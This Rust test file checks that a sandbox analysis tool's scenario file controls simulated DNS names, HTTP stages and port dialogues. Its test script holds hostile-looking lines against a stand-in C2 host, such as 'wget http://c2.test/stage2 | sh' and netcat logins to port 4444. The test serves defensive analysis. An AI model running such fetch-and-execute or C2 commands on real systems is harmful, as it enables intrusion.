//! What a scenario file changes about the world, as a program in the sandbox sees it.

use std::fs;

use serde_json::{Value, json};

use crate::place::{Place, shell};
use crate::support::live;

const SCENARIO: &str = r#"
names:
  - { name: c2.test, addresses: [203.0.113.5] }
http:
  - { host: c2.test, path: /stage2, file: stage.sh }
dialogues:
  - port: 4444
    greeting: "ready\n"
    lines: [{ expect: "LOGIN *", answer: "granted\n", close: true }]
refuse: { names: ["*.dga.test"], ports: [6667, 5000-6000] }
"#;

const SCRIPT: &str = "
nslookup c2.test | grep -c 203.0.113.5
wget -q -O - http://c2.test/stage2 | sh
nslookup x.dga.test >/dev/null 2>&1; echo no such name: $?
echo LOGIN me | nc c2.test 4444
nc c2.test 6667 </dev/null 2>/dev/null; echo closed: $?
nc 1.2.3.4 5500 </dev/null 2>/dev/null; echo closed: $?
wget -q -O - http://other.test/stage2
";

const PRINTED: &str = "1
staged
no such name: 1
ready
granted
closed: 1
closed: 1
#!/bin/sh
\"\"\":\"
{ read -r channel </etc/release-channel; } 2>/dev/null
echo 'done'
exit 0
\":\"\"\"
try:
    channel = open('/etc/release-channel').read()
except OSError:
    channel = 'stable'
print('done')
";

#[test]
fn a_scenario_decides_what_its_names_and_ports_do() {
    if !live() {
        return;
    }
    let place = Place::new();
    fs::create_dir(place.path("world")).unwrap();
    fs::write(place.path("world/stage.sh"), "#!/bin/sh\necho staged\n").unwrap();
    let scenario = place.path("world/scenario.yaml");
    fs::write(&scenario, SCENARIO).unwrap();
    let image = place.image(shell(SCRIPT));
    let said = place.analyze(&["--duration", "120s", "--scenario", scenario.to_str().unwrap(), &image]);
    let printed = fs::read_to_string(place.path("out/stdout")).unwrap();
    assert_eq!(printed, PRINTED, "{}", said.stderr);
    let report = place.report();
    let world = &report["inputs"]["world"];
    assert_eq!(world["name"], json!(scenario.to_str().unwrap()));
    assert!(world["digest"].as_str().unwrap().starts_with("sha256:"));
    let again = place.call(&["replay", "--format", "json", place.path("out").to_str().unwrap()]);
    let again: Value = serde_json::from_str(&again.stdout).unwrap();
    assert_eq!(&again["inputs"]["world"], world, "judged again, it is the same world");
    place.assert_clean();
}
